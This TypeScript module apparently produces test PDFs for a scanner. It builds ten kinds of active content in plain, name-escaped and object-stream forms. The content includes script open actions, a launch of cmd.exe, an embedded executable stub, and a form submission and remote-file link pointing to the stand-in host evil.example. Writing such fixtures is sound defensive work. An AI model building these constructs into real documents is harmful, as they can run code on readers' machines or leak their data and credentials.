import { deflateSync } from 'node:zlib'
import { stream, writePdf } from './pdf-writer.ts'

const js = '<< /S /JavaScript /JS (app.alert(1)) >>'
const file = stream('MZ', '/Type /EmbeddedFile')

/** Ten kinds of active content: what the catalogue says of it, and the objects from number 6 that it needs. */
export const activeContents: Readonly<Record<string, { catalog: string; objects?: (string | Buffer)[] }>> = {
  'an open action with a script': { catalog: '/OpenAction 6 0 R', objects: [js] },
  'an additional action with a script': { catalog: '/AA << /WC 6 0 R >>', objects: [js] },
  'a script in the names': {
    catalog: '/Names << /JavaScript 6 0 R >>',
    objects: ['<< /Names [(a) 7 0 R] >>', js],
  },
  'a launch action': { catalog: '/OpenAction 6 0 R', objects: ['<< /S /Launch /F (cmd.exe) >>'] },
  'an embedded file': {
    catalog: '/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>',
    objects: ['<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>', file],
  },
  'rich media': {
    catalog: '/Keep 6 0 R',
    objects: ['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>'],
  },
  'a form that sends itself': {
    catalog: '/OpenAction 6 0 R',
    objects: ['<< /S /SubmitForm /F (http://evil.example) >>'],
  },
  'an import of data': { catalog: '/OpenAction 6 0 R', objects: ['<< /S /ImportData /F (a.fdf) >>'] },
  'a way to another file': {
    catalog: '/OpenAction 6 0 R',
    objects: ['<< /S /GoToR /F (\\\\\\\\evil.example\\\\a.pdf) /D [0 /Fit] >>'],
  },
  'a dynamic form': { catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>', objects: [stream('<xdp/>')] },
}

/** The ways to write a PDF with these parts that readers take for the same. */
export const writings: Readonly<Record<string, (parts: { catalog: string; objects?: (string | Buffer)[] }) => Buffer>> =
  {
    plainly: ({ catalog, objects }) => writePdf('', objects, '', catalog),
    'with spelled names': ({ catalog, objects = [] }) =>
      writePdf('', objects.map(spelled), '', spelled(catalog).toString()),
    'in packed objects': ({ catalog, objects }) => writePackedPdf(catalog, objects),
  }

const spelled = (part: string | Buffer) =>
  Buffer.isBuffer(part)
    ? part
    : part.replace(
        /\/([A-Z])(\w+)/g,
        (_, first: string, rest: string) => `/#${first.charCodeAt(0).toString(16)}${rest}`,
      )

/** A PDF whose objects lie in an object stream, and its table in another; streams cannot be packed, and stand beside. */
export function writePackedPdf(catalog: string, more: (string | Buffer)[] = []): Buffer {
  const parts = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    stream('BT /F1 11 Tf 50 700 Td (PAN card) Tj ET'),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...more,
  ]
  const numbered = parts.map((part, index) => ({ number: index + 1, part }))
  const packed = numbered.filter(({ part }) => typeof part === 'string')
  const holder = parts.length + 1
  let inside = ''
  const head = packed.map(({ number, part }) => {
    const entry = `${number} ${inside.length}`
    inside += `${part}\n`
    return entry
  })
  const begin = `${head.join(' ')}\n`
  const loose = [
    ...numbered.filter(({ part }) => typeof part !== 'string'),
    { number: holder, part: stream(begin + inside, `/Type /ObjStm /N ${packed.length} /First ${begin.length}`) },
  ]
  const chunks = [Buffer.from('%PDF-1.7\n')]
  const places = new Map<number, number>()
  for (const { number, part } of loose) {
    places.set(number, Buffer.concat(chunks).length)
    chunks.push(Buffer.from(`${number} 0 obj\n`), Buffer.from(part), Buffer.from('\nendobj\n'))
  }
  const at = Buffer.concat(chunks).length
  places.set(holder + 1, at)
  const rows = [row(0, 0, 255)]
  for (let number = 1; number <= holder + 1; number += 1) {
    const index = packed.findIndex((entry) => entry.number === number)
    rows.push(index >= 0 ? row(2, holder, index) : row(1, places.get(number) ?? 0, 0))
  }
  const table = deflateSync(Buffer.concat(rows))
  const dictionary = `<< /Type /XRef /Size ${holder + 2} /W [1 4 1] /Root 1 0 R /Filter /FlateDecode /Length ${table.length} >>`
  chunks.push(Buffer.from(`${holder + 1} 0 obj\n${dictionary}\nstream\n`), table)
  chunks.push(Buffer.from(`\nendstream\nendobj\nstartxref\n${at}\n%%EOF\n`))
  return Buffer.concat(chunks)
}

function row(kind: number, place: number, rest: number): Buffer {
  const bytes = Buffer.alloc(6)
  bytes.writeUInt8(kind, 0)
  bytes.writeUInt32BE(place, 1)
  bytes.writeUInt8(rest, 5)
  return bytes
}
